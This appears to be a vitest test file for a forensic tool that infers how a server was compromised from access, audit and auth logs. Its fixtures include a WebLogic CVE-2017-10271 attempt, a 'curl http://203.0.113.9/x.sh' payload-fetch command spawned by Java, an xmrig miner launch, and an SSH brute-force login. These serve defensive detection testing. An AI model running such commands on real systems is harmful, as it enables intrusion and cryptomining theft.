import { describe, expect, test } from 'vitest';
import { type Claimed, type Logged, makeLogCase } from '../../../tests/make-log-case.ts';
import type { Answer } from '../../model/answer.ts';
import { entry } from '../entry.ts';

const attempt: Logged = {
  in: 'access.log',
  kind: 'exploit-attempt',
  value: {
    log: 'access-log',
    exploit: 'weblogic-wls-wsat',
    title: 'WebLogic wls-wsat',
    cve: ['CVE-2017-10271'],
    service: 'weblogic',
    client: '203.0.113.7',
    target: '/wls-wsat/CoordinatorPortType',
    status: 500,
    carries: 'command',
    start: '2026-11-03T04:12:55.000Z',
  },
};
const child: Logged = {
  in: 'audit.log',
  kind: 'process-start',
  value: {
    log: 'audit-log',
    program: '/usr/bin/curl',
    command: 'curl http://203.0.113.9/x.sh',
    parent: { program: '/usr/bin/java' },
    why: ['child-of-service', 'fetches'],
    service: 'weblogic',
    start: '2026-11-03T04:12:57.000Z',
  },
};
const miner: Logged = {
  in: 'audit.log',
  kind: 'process-start',
  value: {
    log: 'audit-log',
    command: './xmrig -o pool.example.com:3333 -u 4…',
    why: ['mines'],
    start: '2026-11-03T04:13:20.000Z',
  },
};
const guessed: Logged = {
  in: 'auth.log',
  kind: 'login-event',
  value: {
    log: 'syslog',
    outcome: 'worked',
    service: 'ssh',
    account: 'deploy',
    from: '198.51.100.4',
    method: 'password',
    after: { failures: 412, accounts: 31, seconds: 3_600 },
    start: '2026-11-03T03:58:01.000Z',
    clock: { zone: 'unknown' },
  },
};
const span = (log: string, ...tells: ('web-requests' | 'logins' | 'processes')[]): Logged => ({
  in: log,
  kind: 'log-span',
  value: { log, tells, start: '2026-10-27T00:00:00.000Z', end: '2026-11-05T00:00:00.000Z' },
});
const mines = (at: number): Claimed => ({ detector: 'miner-started', stage: 'configured', over: [at] });

function answerTo(seen: readonly Logged[], claims: readonly Claimed[]): Answer {
  return entry.assess(makeLogCase(seen, claims));
}

describe('an entry that logs tell of', () => {
  test('an attempt that a child of the service followed is the way in, and the earliest step', () => {
    const answer = answerTo(
      [attempt, child, miner],
      [{ detector: 'exploit-worked', stage: 'capability', over: [0, 1], title: 'WebLogic was broken into' }, mines(2)],
    );
    expect(answer.says).toMatch(/^Most likely: a hole, or a missing password/);
    expect(answer.says).toContain('The earliest step that the evidence supports: 2026-11-03 04:12 UTC: 203.0.113.7');
    expect(answer.timeline?.moments.map(({ role }) => role)).toEqual(['way-in', 'deed', 'mining']);
    expect(answer.timeline?.first).toBe(0);
  });

  test('the same attempt, without what followed it, is an attempt', () => {
    const answer = answerTo([attempt, miner], [mines(1)]);
    expect(answer.says).toContain('Not enough evidence');
    expect(answer.says).not.toContain('Most likely');
    expect(answer.timeline?.moments.map(({ role }) => role)).toEqual(['attempt', 'mining']);
  });

  test('a login that worked after many failures is the way in, and says where its clock is not sure', () => {
    const answer = answerTo([guessed, miner], [{ detector: 'login-guessed', stage: 'mention', over: [0] }, mines(1)]);
    expect(answer.says).toMatch(/^Most likely: a login or a key/);
    expect(answer.says).toContain('2026-11-03 03:58 (zone not told)');
  });

  test('a log that covers the time and shows nothing speaks against its way in, and is not asked for', () => {
    const without = answerTo([miner], [mines(0)]);
    const covered = answerTo([miner, span('access.log', 'web-requests')], [mines(0)]);
    const chance = (answer: Answer): number =>
      answer.hypotheses.find(({ id }) => id === 'exploit')?.probability.mid ?? 0;
    expect(chance(covered)).toBeLessThan(chance(without));
    expect(covered.next.join(' ')).not.toContain('/var/log/nginx');
    expect(without.next.join(' ')).toContain('/var/log/nginx');
  });

  test('what no log covers is named', () => {
    const { details } = answerTo([miner, span('access.log', 'web-requests')], [mines(0)]);
    expect(details?.join(' ')).toContain('No log here covers the day before it for started programs and logins.');
  });

  test('attempts where nothing mines are a word, and no way in', () => {
    const answer = answerTo([attempt], []);
    expect(answer.says).toContain('nothing shows that anybody got in');
    expect(answer.hypotheses).toEqual([]);
  });

  test('an entry that worked is told where nothing mines, too', () => {
    const answer = answerTo([attempt, child], [{ detector: 'exploit-worked', stage: 'mention', over: [0, 1] }]);
    expect(answer.timeline?.first).toBe(0);
  });
});

describe('a timeline', () => {
  test('keeps the attempts closest to the beginning, and counts the others', () => {
    const many = Array.from({ length: 40 }, (_, i): Logged => {
      const start = `2026-10-${String((i % 28) + 1).padStart(2, '0')}T00:00:00.000Z`;
      return { ...attempt, value: { ...attempt.value, start } };
    });
    const { timeline } = answerTo(
      [...many, attempt, child, miner],
      [{ detector: 'exploit-worked', stage: 'capability', over: [40, 41] }, mines(42)],
    );
    expect(timeline?.moments.filter(({ role }) => role === 'attempt')).toHaveLength(12);
    expect(timeline?.left).toBe(28);
    expect(timeline?.moments[0]?.time.slice(0, 7)).toBe('2026-10');
  });

  test('goes by time, whatever order the logs came in', () => {
    const { timeline } = answerTo([miner, child, attempt], [mines(0)]);
    const times = timeline?.moments.map(({ time }) => time) ?? [];
    expect(times).toEqual([...times].sort());
  });
});
